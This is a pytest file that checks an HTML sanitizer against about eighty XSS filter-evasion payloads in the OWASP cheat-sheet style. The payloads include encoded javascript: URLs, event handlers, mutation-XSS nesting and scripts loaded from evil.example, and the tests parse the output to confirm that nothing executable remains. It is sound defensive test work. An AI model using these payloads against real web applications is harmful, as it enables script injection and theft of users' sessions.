"""Hostile HTML in the style of the OWASP XSS filter evasion cheat sheet, written for these tests.

Each payload is sanitized, parsed back with a browser-grade HTML5 parser (lexbor), and the resulting tree
is checked for anything that could run script, load a stylesheet, navigate or re-base the page.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from selectolax.lexbor import LexborHTMLParser

from timeline.normalize.sanitize import sanitize_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://ok.example/a.png" onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="jav&#x09;ascript:alert(1)">encoded tab</a>',
    '<a href="jav\tascript:alert(1)">raw tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    ':alert(1)">padded, no semicolons</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="java\x00script:alert(1)">null byte</a>',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<img src=x\x00 onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<IFRAME SRC='data:text/html,<script>alert(1)</script>'>fallback</IFRAME>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example/xss.css';</style><p>text</p>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<object><param name="src" value="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="javascript:alert(1)//">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    '"><script>alert(1)</script>',
    '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    '<div onmouseover="alert(1)">x</div>',
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    "<video src=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<isindex action="javascript:alert(1)" type="image">',
    '<div id="cookie" class="x" name="y">clobber</div>',
    '<a href="https://ok.example/" target="_blank" rel="opener">tabnab</a>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    '<img src="https://ok.example/a.png"/onerror=alert(1)>',
    '<a/href="javascript:alert(1)">slash</a>',
    "<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
]
# Embeds whose tags a pattern cannot end where a browser does: what it left behind was visible text.
# (Visible only: nothing of it ran.) Each with the text readers may see of it, and nothing else.
LEAKING = {
    '<iframe src="https://a.example/" title="x>" onload="window.__xss=5">': "https://a.example/",
    "<iframe src='https://a.example/' data-x='>' onload=window.__xss=5>": "https://a.example/",
    '<iframe src="https://a.example/">window.__xss=5</iframe>': "https://a.example/",
    '<iframe title="<iframe src=https://a.example/>" src=https://b.example/></iframe>': "https://b.example/",
    '<embed src="https://a.example/x" alt="1>2" onload="window.__xss=5">': "https://a.example/x",
    '<video src="https://a.example/v.mp4" poster="a>b" onplay="window.__xss=5">no video</video>': (
        "https://a.example/v.mp4"
    ),
    '<audio src=https://a.example/a.mp3 data-a="<script>window.__xss=5</script>">': "https://a.example/a.mp3",
    "<IFRAME SRC='data:text/html,<script>alert(1)</script>'>window.__xss=5</IFRAME>": "",
    '<video src="javascript:window.__xss=5">window.__xss=5</video>': "",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=5>">': "",
    "<noscript><style>p{}</style><script>window.__xss=5</script></noscript>": "",
}
PAYLOADS += list(LEAKING)

FORBIDDEN_TAGS = {"script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math"}
FORBIDDEN_TAGS |= {"base", "meta", "link", "frame", "frameset", "template", "textarea", "select", "param"}
ALLOWED_ATTRIBUTES = {"href", "rel", "src", "alt", "width", "height", "loading", "lang", "dir", "title"}
ALLOWED_ATTRIBUTES |= {"colspan", "rowspan", "scope"}
DOCUMENT_TAGS = {"html", "head", "body"}  # added by parsing the fragment as a document


def _elements(html: str) -> list[tuple[str | None, dict[str, str | None]]]:
    tree = LexborHTMLParser(html)
    nodes = tree.root.traverse(include_text=False) if tree.root is not None else []
    return [(node.tag, node.attributes) for node in nodes if node.tag not in DOCUMENT_TAGS]


def _is_http_url(value: str | None) -> bool:
    parts = urlsplit(value or "")
    return parts.scheme in ("http", "https") and bool(parts.netloc)


def assert_safe(html: str) -> None:
    for tag, attributes in _elements(html):
        assert tag not in FORBIDDEN_TAGS, tag
        assert not {name for name in attributes if name.startswith("on")}, attributes
        assert set(attributes) <= ALLOWED_ATTRIBUTES, attributes
        for name in ("href", "src"):
            if name in attributes:
                assert _is_http_url(attributes[name]), attributes
        if tag == "img":
            assert (attributes.get("src") or "").startswith("https://"), attributes
        if tag == "a":
            assert attributes.get("rel") == "nofollow noopener", attributes


def test_corpus_is_large_enough() -> None:
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("base_url", [None, "https://blog.example/live/"])
def test_payload_is_neutralised(payload: str, base_url: str | None) -> None:
    assert_safe(sanitize_html(payload, base_url=base_url))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_inside_legit_markup_is_neutralised(payload: str) -> None:
    html = (
        f'<p>Before <a href="https://ok.example/">link</a></p><blockquote>{payload}</blockquote><p>after</p>'
    )
    assert_safe(sanitize_html(html))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_output_is_a_fixed_point(payload: str) -> None:
    """Re-sanitizing changes nothing, so a parse/serialize round trip cannot mutate markup into script."""
    once = sanitize_html(payload)
    assert sanitize_html(once) == once


def test_no_dangerous_scheme_survives_anywhere() -> None:
    for payload in PAYLOADS:
        for _, attributes in _elements(sanitize_html(payload)):
            for value in attributes.values():
                assert not (value or "").strip().lower().startswith(("javascript:", "data:", "vbscript:"))


def _visible_text(html: str) -> str:
    tree = LexborHTMLParser(html)
    return " ".join((tree.body.text(separator=" ") if tree.body is not None else "").split())


@pytest.mark.parametrize(("payload", "shown"), LEAKING.items())
@pytest.mark.parametrize("before", ["", "<p>Before</p>"])
def test_no_payload_text_is_left_for_readers_to_see(payload: str, shown: str, before: str) -> None:
    """(Nothing after the payload: an iframe left open makes the rest of the body its text, for a browser
    too, and that text is never shown.)"""
    visible = _visible_text(sanitize_html(before + payload))
    assert visible == " ".join(part for part in ("Before" if before else "", shown) if part)


def test_a_noscript_image_stays_an_image() -> None:
    """Pages put the image a script loads lazily in `noscript`: it is kept, as an image, not as text."""
    html = sanitize_html(
        '<p>Crowds</p><noscript><img src="https://img.example/a.jpg" alt="Crowds"></noscript>'
    )
    assert '<img src="https://img.example/a.jpg" alt="Crowds"' in html
    assert _visible_text(html) == "Crowds"
